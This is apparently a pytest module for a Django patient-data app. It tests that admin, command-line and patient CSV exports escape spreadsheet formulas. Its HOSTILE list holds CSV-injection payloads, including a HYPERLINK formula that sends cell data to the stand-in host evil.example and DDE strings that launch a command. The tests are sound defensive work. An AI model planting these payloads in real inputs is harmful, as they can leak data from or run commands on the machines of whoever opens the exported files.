"""Every CSV the app writes opens in a spreadsheet as text: no cell starts a formula.

Hostile values arrive as what someone typed for a user name at sign-in (kept in the access log) and as
what a patient typed into their own diary or medication list (in their data export).
"""

import csv
import io
import re
import zipfile

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from checklists.models import AccessLog, DiaryEntry, Medication
from checklists.security.audit import Action, audit_record
from tests.security.patient_data import fill_every_table

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
]
# Typed at sign-in the form strips surrounding whitespace; recorded otherwise they would stay.
HOSTILE_WHITESPACE = ["\t=1+1", "\r=1+1"]
# What a spreadsheet reads as the start of a formula (OWASP "CSV injection"), numbers aside.
FORMULA_START = re.compile(r"^[=+\-@\t\r|%]")
NUMBER = re.compile(r"^-?[0-9,.]+$")


def formula_cells(text: str) -> list[str]:
    """Return the cells of a CSV document a spreadsheet would run as formulas."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [cell for cell in cells if FORMULA_START.match(cell) and not NUMBER.match(cell)]


@pytest.fixture
def hostile_access_log(db):
    client = Client()
    for typed in HOSTILE:
        client.post(reverse("login"), {"username": typed, "password": "whatever-it-is"})
    for label in HOSTILE_WHITESPACE:
        audit_record(request=None, action=Action.SIGN_IN_FAILED, actor_label=label)
    assert AccessLog.objects.filter(actor_label__in=HOSTILE + HOSTILE_WHITESPACE).count() == 7


def test_the_check_can_fail():
    assert formula_cells('who\r\n=1+1\r\n"\t=1+1"\r\n-5\r\n') == ["=1+1", "\t=1+1"]


def test_admin_export_writes_formulas_as_text(client, superuser, hostile_access_log):
    client.force_login(superuser)
    entries = list(AccessLog.objects.values_list("pk", flat=True))
    response = client.post(
        reverse("admin:checklists_accesslog_changelist"),
        {"action": "export_csv", "_selected_action": entries},
    )
    assert response.status_code == 200
    text = response.content.decode()
    assert formula_cells(text) == []
    # Still there, readable, just not runnable.
    assert "'=1+1" in text and "'@SUM(1+1)" in text


def test_accesslog_export_command_writes_formulas_as_text(hostile_access_log, tmp_path):
    out = tmp_path / "log.csv"
    call_command("accesslog_export", "--output", str(out))
    text = out.read_text(encoding="utf-8")
    assert formula_cells(text) == []
    assert "'+cmd" in text


def test_data_export_csvs_write_formulas_as_text(patient):
    fill_every_table(patient)
    DiaryEntry.objects.filter(patient=patient).update(note=HOSTILE[0])
    Medication.objects.filter(patient=patient).update(name=HOSTILE[1], dose_text="\t=1+1")
    client = Client()
    client.force_login(patient.user)
    response = client.get(reverse("api:me-export"))
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    texts = {name: archive.read(name).decode() for name in archive.namelist() if name.endswith(".csv")}
    assert {name: formula_cells(text) for name, text in texts.items() if formula_cells(text)} == {}
    assert "'=HYPERLINK" in texts["diaryentry.csv"] and "'+cmd" in texts["medication.csv"]
